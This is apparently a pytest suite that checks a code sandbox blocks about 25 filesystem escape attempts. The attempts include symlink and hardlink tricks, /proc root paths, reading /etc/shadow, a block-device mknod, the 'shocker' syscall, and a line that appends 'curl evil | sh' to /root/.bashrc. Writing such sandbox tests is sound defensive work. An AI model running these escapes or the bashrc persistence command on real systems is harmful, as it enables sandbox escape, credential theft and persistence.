"""Filesystem attacks: the canary outside the work dir stays secret and untouched."""

from __future__ import annotations

import os

import pytest

from .attacks import host_values, snippet
from .conftest import blocked, checked_run

FS_ATTACKS = {
    "read_canary": 'attempt("read", lambda: open("$file").read())',
    "read_canary_relative_dotdot": 'attempt("dotdot", lambda: open(os.path.relpath("$file")).read())',
    "write_next_to_canary": 'attempt("write", lambda: open("$dir/planted.txt", "w").write("x"))',
    "overwrite_canary": 'attempt("overwrite", lambda: open("$file", "w").write("pwned"))',
    "append_to_canary": 'attempt("append", lambda: open("$file", "a").write("pwned"))',
    "truncate_canary": 'attempt("truncate", lambda: os.truncate("$file", 0))',
    "delete_canary": 'attempt("unlink", lambda: os.unlink("$file"))',
    "chmod_canary": 'attempt("chmod", lambda: os.chmod("$file", 0o777))',
    "utime_canary": 'attempt("utime", lambda: os.utime("$file", (0, 0)))',
    "xattr_on_canary": 'attempt("setxattr", lambda: os.setxattr("$file", "user.x", b"1"))',
    "rename_canary_into_workdir": 'attempt("rename", lambda: os.rename("$file", "stolen.txt"))',
    "symlink_to_canary": ('os.symlink("$file", "link.txt")\n'
                          'attempt("symlink read", lambda: open("link.txt").read())'),
    "symlink_dir_escape": ('os.symlink("$dir", "d")\n'
                           'attempt("symlink dir write", lambda: open("d/planted.txt", "w").write("x"))'),
    "hardlink_canary": ('attempt("link", lambda: os.link("$file", "hard.txt"))\n'
                        'attempt("link read", lambda: open("hard.txt").read())'),
    "proc_self_root": 'attempt("proc root", lambda: open("/proc/self/root$file").read())',
    "proc_zygote_cwd": 'attempt("zygote cwd", lambda: os.listdir("/proc/$zygote/cwd"))',
    "proc_zygote_root": 'attempt("zygote root", lambda: open("/proc/$zygote/root$file").read())',
    "proc_host_fd": 'attempt("host fds", lambda: os.listdir("/proc/$host/fd"))',
    "read_etc_shadow": 'attempt("shadow", lambda: open("/etc/shadow").read())',
    "list_root_dir": 'attempt("ls /", lambda: os.listdir("/"))',
    "write_root_home": 'attempt("bashrc", lambda: open("/root/.bashrc", "a").write("curl evil | sh"))',
    "write_site_packages": ('import json\n'
                            'attempt("site", lambda: open(os.path.join(os.path.dirname(json.__file__), "evil.py"), "w"))'),
    "mknod_block_device": 'attempt("mknod", lambda: os.mknod("sda", 0o600 | 0o60000, os.makedev(8, 0)))',
    "open_by_handle_at": 'attempt("shocker", lambda: raw(304, -100, 0, 0))',
    "chown_canary": 'attempt("chown", lambda: os.chown("$file", 65534, 65534))',
}


@pytest.mark.parametrize("name", sorted(FS_ATTACKS))
def test_cant_touch_files_outside(sb, canary, name):
    code = snippet(FS_ATTACKS[name], file=canary["file"], dir=canary["dir"], **host_values(sb))
    r = checked_run(sb, code)
    blocked(r, "blocked")
    assert canary["text"] not in (r.stdout + r.stderr + (r.error or ""))
    assert not any(canary["text"].encode() in f.data for f in r.files)
    assert os.stat(canary["file"]).st_mtime > 0  # utime did not reset it
